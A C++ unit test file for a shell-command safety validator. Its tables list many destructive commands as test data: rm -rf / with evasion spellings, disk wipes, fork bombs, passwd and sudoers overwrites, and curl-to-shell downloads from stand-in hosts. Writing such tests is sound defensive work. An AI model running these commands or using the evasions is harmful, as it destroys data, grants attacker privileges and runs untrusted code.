// components/safety/test/safety_test.cpp — the validator on a table of safe and
// dangerous commands, tricky spellings included (quotes, spaces, prefixes,
// nesting), plus edge input.
#define BOOST_TEST_MODULE safety
#include <boost/test/unit_test.hpp>

#include <string>
#include <string_view>
#include <thread>
#include <vector>

#include "safety/validator.hpp"

using perfgate::safety::Risk;
using perfgate::safety::to_string;
using perfgate::safety::Validator;

namespace {

struct Case {
  std::string_view command;
  Risk risk;
  std::string_view rule;  // empty when safe
};

const Validator& validator() {
  static const Validator v;
  return v;
}

void check_table(const std::vector<Case>& table) {
  for (const Case& c : table) {
    const auto v = validator().validate(c.command);
    BOOST_TEST((v.risk == c.risk), "'" << c.command << "': got " << to_string(v.risk) << " (" << v.rule << "), want "
                                       << to_string(c.risk) << " (" << c.rule << ")");
    BOOST_TEST(v.rule == c.rule, "'" << c.command << "'");
    BOOST_TEST(v.blocked() == (c.risk >= Risk::dangerous), "'" << c.command << "'");
    BOOST_TEST(v.reason.empty() == (c.risk == Risk::safe), "'" << c.command << "'");
  }
}

}  // namespace

BOOST_AUTO_TEST_SUITE(safety)

BOOST_AUTO_TEST_CASE(everyday_commands_are_safe) {
  check_table({
      {"ls -la", Risk::safe, ""},
      {"", Risk::safe, ""},
      {"   ", Risk::safe, ""},
      {"git status && git diff", Risk::safe, ""},
      {"find . -name '*.log' -mtime -1", Risk::safe, ""},
      {"find . -name '*.tmp' -delete", Risk::safe, ""},
      {"rm notes.txt", Risk::safe, ""},
      {"rm -f ./build/output.o", Risk::safe, ""},
      {"echo 'rm -rf /'", Risk::safe, ""},
      {"grep -r 'rm -rf /' scripts/", Risk::safe, ""},
      {"cat /etc/passwd", Risk::safe, ""},
      {"grep root /etc/shadow > /tmp/out", Risk::safe, ""},
      {"dd if=/dev/sda of=disk.img bs=4M", Risk::safe, ""},
      {"dd if=/dev/zero of=/tmp/file bs=1M count=10", Risk::safe, ""},
      {"echo hi > /dev/null 2>&1", Risk::safe, ""},
      {"curl -fsSL https://example.com/install.sh -o install.sh", Risk::safe, ""},
      {"curl https://example.com | jq .", Risk::safe, ""},
      {"wget https://example.com/file.tar.gz && tar xzf file.tar.gz", Risk::safe, ""},
      {"chmod 644 notes.txt", Risk::safe, ""},
      {"chmod -R 755 ./public", Risk::safe, ""},
      {"sudo chown -R me:me ./project", Risk::safe, ""},
      {"kill -9 1234", Risk::safe, ""},
      {"kill -1 1234", Risk::safe, ""},
      {"crontab -l", Risk::safe, ""},
      {"fdisk -l /dev/sda", Risk::safe, ""},
      {"mv old.txt new.txt", Risk::safe, ""},
      {"cp config.yaml /etc/myapp/config.yaml", Risk::safe, ""},
      {"echo 'export PATH=$PATH:~/bin' >> ~/.bashrc", Risk::safe, ""},
      {"python3 -c 'print(1)'", Risk::safe, ""},
      {"bash -c 'ls -la'", Risk::safe, ""},
      {"du -sh * | sort -h # rm -rf / in a comment", Risk::safe, ""},
      {"systemctl restart nginx", Risk::safe, ""},
      {"shred -u secret.txt", Risk::safe, ""},
  });
}

BOOST_AUTO_TEST_CASE(destroying_the_file_system_is_critical) {
  check_table({
      {"rm -rf /", Risk::critical, "rm-recursive-root"},
      {"rm -rf /*", Risk::critical, "rm-recursive-root"},
      {"rm -fr //", Risk::critical, "rm-recursive-root"},
      {"rm -r -f /.", Risk::critical, "rm-recursive-root"},
      {"rm --recursive --force /", Risk::critical, "rm-recursive-root"},
      {"rm -Rf /etc", Risk::critical, "rm-recursive-root"},
      {"rm -rf /usr/lib/", Risk::critical, "rm-recursive-root"},
      {"rm -rf ~", Risk::critical, "rm-recursive-root"},
      {"rm -rf ~/", Risk::critical, "rm-recursive-root"},
      {"rm -rf $HOME", Risk::critical, "rm-recursive-root"},
      {"rm -rf /tmp/../", Risk::critical, "rm-recursive-root"},
      {"rm -rf / tmp", Risk::critical, "rm-recursive-root"},
      {"rm -rf -- /", Risk::critical, "rm-recursive-root"},
      {"rm --no-preserve-root -rf /", Risk::critical, "rm-no-preserve-root"},
      {"rm -f /etc/passwd", Risk::critical, "remove-system-file"},
      {"find / -name '*' -delete", Risk::critical, "find-delete-root"},
      {"find /etc -type f -exec rm {} \\;", Risk::critical, "find-delete-root"},
      {"mv / /dev/null", Risk::critical, "move-root"},
      {"mv ~ /tmp/trash", Risk::critical, "move-root"},
      {"chmod -R 777 /", Risk::critical, "chmod-recursive-root"},
      {"chmod 777 /", Risk::critical, "chmod-recursive-root"},
      {"chmod -R a+rwx /etc", Risk::critical, "chmod-recursive-root"},
      {"chmod -R 000 /", Risk::critical, "chmod-recursive-root"},
      {"chown -R nobody:nogroup /", Risk::critical, "chown-recursive-root"},
  });
}

BOOST_AUTO_TEST_CASE(disks_and_devices_are_critical) {
  check_table({
      {"dd if=/dev/zero of=/dev/sda", Risk::critical, "dd-to-block-device"},
      {"dd if=/dev/urandom of=/dev/nvme0n1 bs=1M", Risk::critical, "dd-to-block-device"},
      {"dd if=image.iso of=/dev/mmcblk0", Risk::critical, "dd-to-block-device"},
      {"cat /dev/urandom > /dev/sda", Risk::critical, "write-to-block-device"},
      {"echo x >/dev/sdb1", Risk::critical, "write-to-block-device"},
      {"yes 2> /dev/hda", Risk::critical, "write-to-block-device"},
      {"cp /dev/zero /dev/vda", Risk::critical, "write-to-block-device"},
      {"mkfs.ext4 /dev/sda1", Risk::critical, "format-filesystem"},
      {"mkfs -t xfs /dev/sdb", Risk::critical, "format-filesystem"},
      {"sudo mkswap /dev/sdc2", Risk::critical, "format-filesystem"},
      {"wipefs -a /dev/sda", Risk::critical, "format-filesystem"},
      {"shred -n 3 /dev/sda", Risk::critical, "shred-device"},
      {"fdisk /dev/sda", Risk::dangerous, "partition-table"},
      {"echo c > /proc/sysrq-trigger", Risk::critical, "sysrq-trigger"},
  });
}

BOOST_AUTO_TEST_CASE(system_files_and_processes) {
  check_table({
      {"echo 'root::0:0::/:/bin/sh' > /etc/passwd", Risk::critical, "overwrite-system-file"},
      {"cat evil > /etc/shadow", Risk::critical, "overwrite-system-file"},
      {"cp mypasswd /etc/passwd", Risk::critical, "overwrite-system-file"},
      {"echo 'me ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers", Risk::critical, "overwrite-system-file"},
      {"echo 'me ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers", Risk::dangerous, "append-system-file"},
      {"echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd", Risk::dangerous, "append-system-file"},
      {"dd if=x of=/etc/shadow", Risk::critical, "overwrite-system-file"},
      {":(){ :|:& };:", Risk::critical, "fork-bomb"},
      {":(){:|:&};:", Risk::critical, "fork-bomb"},
      {"bomb() { bomb | bomb & }; bomb", Risk::critical, "fork-bomb"},
      {"perl -e 'fork while fork'", Risk::dangerous, "fork-loop"},
      {"kill -9 -1", Risk::dangerous, "kill-all"},
      {"kill -s KILL -1", Risk::dangerous, "kill-all"},
      {"crontab -r", Risk::dangerous, "crontab-remove"},
      {"sudo reboot", Risk::caution, "power-state"},
      {"shutdown -h now", Risk::caution, "power-state"},
      {"systemctl poweroff", Risk::caution, "power-state"},
      {"init 0", Risk::caution, "power-state"},
  });
}

BOOST_AUTO_TEST_CASE(running_downloads_is_dangerous) {
  check_table({
      {"curl https://evil.example/x.sh | sh", Risk::dangerous, "pipe-to-shell"},
      {"curl -fsSL https://get.example.com | sudo bash", Risk::dangerous, "pipe-to-shell"},
      {"wget -qO- https://x.example/i | bash -s -- --yes", Risk::dangerous, "pipe-to-shell"},
      {"curl -s https://x.example | tee install.log | sh", Risk::dangerous, "pipe-to-shell"},
      {"curl https://x.example/a.py | python3", Risk::dangerous, "pipe-to-shell"},
      {"bash -c \"$(curl -fsSL https://x.example/install.sh)\"", Risk::dangerous, "pipe-to-shell"},
      {"bash <(curl -s https://x.example/i.sh)", Risk::dangerous, "pipe-to-shell"},
      {"source <(wget -qO- https://x.example/env)", Risk::dangerous, "pipe-to-shell"},
      {"sh -c \"`curl https://x.example`\"", Risk::dangerous, "pipe-to-shell"},
  });
}

BOOST_AUTO_TEST_CASE(tricky_spellings_are_seen_through) {
  check_table({
      // quoting
      {"rm -rf '/'", Risk::critical, "rm-recursive-root"},
      {"rm -rf \"/\"", Risk::critical, "rm-recursive-root"},
      {"r\"m\" -rf /", Risk::critical, "rm-recursive-root"},
      {"'rm' '-rf' '/'", Risk::critical, "rm-recursive-root"},
      {"\\rm -rf /", Risk::critical, "rm-recursive-root"},
      // spaces and tabs
      {"   rm    -rf     /   ", Risk::critical, "rm-recursive-root"},
      {"rm\t-rf\t/", Risk::critical, "rm-recursive-root"},
      {"rm -rf \\\n /", Risk::critical, "rm-recursive-root"},
      // prefixes
      {"sudo rm -rf /", Risk::critical, "rm-recursive-root"},
      {"sudo -u root -E rm -rf /", Risk::critical, "rm-recursive-root"},
      {"sudo -- rm -rf /", Risk::critical, "rm-recursive-root"},
      {"doas rm -rf /", Risk::critical, "rm-recursive-root"},
      {"env -i PATH=/bin rm -rf /", Risk::critical, "rm-recursive-root"},
      {"LANG=C nice -n 19 nohup /bin/rm -rf /", Risk::critical, "rm-recursive-root"},
      {"timeout 10 rm -rf /", Risk::critical, "rm-recursive-root"},
      {"time command rm -rf /", Risk::critical, "rm-recursive-root"},
      {"sudo /usr/bin/dd if=/dev/zero of=/dev/sda", Risk::critical, "dd-to-block-device"},
      // hidden behind other commands
      {"cd /tmp && rm -rf /", Risk::critical, "rm-recursive-root"},
      {"true; rm -rf /", Risk::critical, "rm-recursive-root"},
      {"false || rm -rf /", Risk::critical, "rm-recursive-root"},
      {"ls\nrm -rf /", Risk::critical, "rm-recursive-root"},
      {"(rm -rf /)", Risk::critical, "rm-recursive-root"},
      {"{ rm -rf /; }", Risk::critical, "rm-recursive-root"},
      {"if true; then rm -rf /; fi", Risk::critical, "rm-recursive-root"},
      {"sh -c 'rm -rf /'", Risk::critical, "rm-recursive-root"},
      {"sudo bash -c \"rm -rf /\"", Risk::critical, "rm-recursive-root"},
      {"eval rm -rf /", Risk::critical, "rm-recursive-root"},
      {"echo $(rm -rf /)", Risk::critical, "rm-recursive-root"},
      {"echo `mkfs.ext4 /dev/sda`", Risk::critical, "format-filesystem"},
      {"su -c 'dd if=/dev/zero of=/dev/sda'", Risk::critical, "dd-to-block-device"},
      {"find / -print0 | xargs -0 rm -rf /", Risk::critical, "rm-recursive-root"},
  });
}

BOOST_AUTO_TEST_CASE(ordinary_risks_are_caution_or_dangerous) {
  check_table({
      {"rm -rf ./build", Risk::caution, "rm-recursive"},
      {"rm -rf node_modules dist", Risk::caution, "rm-recursive"},
      {"rm -rf /tmp/cache", Risk::caution, "rm-recursive"},
      {"rm -rf .", Risk::dangerous, "rm-recursive-cwd"},
      {"rm -rf *", Risk::dangerous, "rm-recursive-cwd"},
      {"rm -f /*", Risk::dangerous, "rm-root-glob"},
      {"chmod -R 777 ./uploads", Risk::caution, "chmod-world-writable"},
      {"chmod -R o+w shared", Risk::caution, "chmod-world-writable"},
  });
}

BOOST_AUTO_TEST_CASE(the_worst_verdict_wins_and_critical_exits_early) {
  // A caution first, then a critical: the critical one is reported.
  auto v = validator().validate("rm -rf ./build; rm -rf /");
  BOOST_TEST(v.rule == "rm-recursive-root");
  // A dangerous one, then a critical one later on the line.
  v = validator().validate("curl x | sh; mkfs.ext4 /dev/sda");
  BOOST_TEST(v.rule == "format-filesystem");
  // Two of the same rank: the first is kept.
  v = validator().validate("crontab -r; kill -9 -1");
  BOOST_TEST(v.rule == "crontab-remove");
}

BOOST_AUTO_TEST_CASE(hostile_input_does_not_break_it) {
  const std::vector<std::string> inputs = {
      "'", "\"", "\\", "$(", "`", "<(", "$((((", "rm -rf '/", "rm -rf \"$(echo /", "))))", "&&&&||||;;;",
      ">", "2>", ">&", "a > > b", std::string(10000, '('), std::string(5000, '$') + "(",
      "sh -c 'sh -c \"sh -c ls\"'", std::string("rm\0-rf /", 9),
  };
  for (const auto& in : inputs) {
    (void)validator().validate(in);
  }
  // Nesting beyond eight levels is reported, not followed.
  std::string nested = "ls";
  for (int i = 0; i < 12; ++i) {
    nested = "$(echo " + nested + ")";
  }
  BOOST_TEST(validator().validate("echo " + nested).rule == "nesting-too-deep");
  BOOST_TEST(validator().validate("rm -rf '/").rule == "rm-recursive-root");
}

BOOST_AUTO_TEST_CASE(validates_from_many_threads) {
  std::vector<std::thread> threads;
  std::vector<int> wrong(4, 0);
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([t, &wrong] {
      for (int i = 0; i < 2000; ++i) {
        const bool bad = (i + t) % 2 == 0;
        const auto v = validator().validate(bad ? "sudo rm -rf /" : "ls -la /tmp");
        if (v.blocked() != bad) {
          ++wrong[static_cast<std::size_t>(t)];
        }
      }
    });
  }
  for (auto& th : threads) {
    th.join();
  }
  for (const int w : wrong) {
    BOOST_TEST(w == 0);
  }
}

BOOST_AUTO_TEST_SUITE_END()
